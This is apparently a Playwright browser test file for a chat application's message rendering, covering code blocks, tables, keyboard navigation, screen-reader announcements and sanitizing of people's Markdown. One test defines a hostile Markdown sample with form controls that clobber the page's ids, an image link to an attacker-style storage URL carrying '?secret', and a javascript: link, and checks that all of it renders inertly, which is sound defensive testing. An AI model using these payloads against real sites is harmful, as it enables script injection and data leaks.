"""Issue 16, how messages read, in headless Chromium against the real stack: code blocks (language,
highlighting, copy), tables, people's messages as sanitized Markdown (hostile Markdown included), and
the keyboard and screen-reader paths (skip link, focus, one announcement per streamed reply)."""

from __future__ import annotations

from playwright.async_api import expect

from tests.browser.conftest import stream_words
from tests.browser.test_ui_security import hostile_reply_for_victim, sending_still_works

CODE = "def greet(name):\n    return f\"hello {name}\""
# The offline stand-in quotes the message, so its reply carries the same code block and table.
RICH = f"Here:\n```python\n{CODE}\n```\n\n| lang | year |\n|---|---|\n| Python | 1991 |\n| C | 1972 |\n\nDone."


async def test_code_blocks_and_tables_in_a_reply_and_a_message(shared_conversation):
    shared = await shared_conversation("Code review", "Ada", "Bob")
    tab, other = shared.owner, shared.member
    await tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await tab.send(RICH)
    reply = tab.assistant()
    await expect(reply).to_have_attribute("data-status", "complete")
    for content in (tab.user_messages().locator(".content"), reply.locator(".content")):
        block = content.locator(".code-block")
        await expect(block.locator(".code-lang")).to_have_text("python")
        await expect(block.locator("pre code")).to_have_text(CODE)
        await expect(block.locator("pre code .hljs-keyword").first).to_have_text("def")  # highlighted
        table = content.locator("table")
        await expect(table.locator("th")).to_have_text(["lang", "year"])
        await expect(table.locator("tbody tr")).to_have_count(2)
        border = await table.locator("td").first.evaluate("td => getComputedStyle(td).borderTopStyle")
        assert border == "solid"
    # Copy puts the code, as text, on the clipboard.
    copy = reply.get_by_role("button", name="Copy the python code")
    await copy.click()
    await expect(copy).to_have_text("Copied")
    assert await tab.page.evaluate("navigator.clipboard.readText()") == CODE
    await expect(other.assistant()).to_have_attribute("data-status", "complete")
    await tab.screenshot("code-and-table")
    await other.screenshot("two-users-desktop")


# A person's hostile Markdown: HTML shown as text, ids, names and form controls never in the page,
# images as links (nothing fetched).
HOSTILE = ('<textarea id="composer">x</textarea><form id="composer-form"><input name="message-list"></form>'
           '<button id="send">ok</button>\n\n![leak](https://storage.googleapis.com/mallory/p.png?secret) [ok](javascript:alert(1))')


async def test_hostile_markdown_from_a_person_is_shown_safely(service, api, tabs, make_token, clients):
    tab, log, token, victim, cid = await hostile_reply_for_victim(service, api, tabs, make_token, clients, HOSTILE)
    message = tab.user_messages().first.locator(".content")
    await expect(message).to_contain_text('<textarea id="composer">x</textarea>')  # as typed
    await expect(message.get_by_role("link", name="Image: leak")).to_have_attribute(
        "href", "https://storage.googleapis.com/mallory/p.png?secret")
    assert await message.locator("[id], [name], textarea, input, button, form, select, img").count() == 0
    assert await message.locator('a[href^="javascript"]').count() == 0
    await sending_still_works(tab, api, token, victim, cid, "still mine")
    assert log.foreign() == []
    assert tab.dialogs == []


async def test_keyboard_paths_and_one_announcement_per_reply(service, api, tabs, make_token):
    token = make_token(name="Keys")
    conv = await api.create_conversation(token, "keyboard")
    tab = await (await tabs()).open(service, token)
    page = tab.page
    # The skip link is the first stop of Tab; with no conversation open it leads to the list.
    await page.keyboard.press("Tab")
    skip = page.get_by_role("link", name="Skip to the message box")
    await expect(skip).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator("#conversations")).to_be_focused()
    # The conversation opens from the keyboard, and the focus goes to the composer.
    await page.locator(f'#conversations button[data-id="{conv["id"]}"]').focus()
    await page.keyboard.press("Enter")
    await expect(page.get_by_label("Message", exact=True)).to_be_focused()
    # Once one is open, the skip link leads to the composer.
    await skip.focus()
    await page.keyboard.press("Enter")
    await expect(page.get_by_label("Message", exact=True)).to_be_focused()

    # Everything the live region says while a reply streams: the reply once, whole.
    await page.evaluate("""() => { window.__said = [];
        new MutationObserver(() => { const t = document.getElementById('announce').textContent; if (t) window.__said.push(t); })
          .observe(document.getElementById('announce'), {childList: true, characterData: true, subtree: true}); }""")
    await tab.send("/stream 200")
    await expect(tab.assistant()).to_have_attribute("data-status", "complete")
    await expect(tab.assistant().locator(".content")).to_have_text(stream_words(200))
    said = await page.evaluate("window.__said")
    assert len(said) == 1 and said[0].startswith("Offline stand-in (not an AI model): word1 word2"), said
    assert await page.locator("#message-list[aria-live], #message-list[role=log]").count() == 0
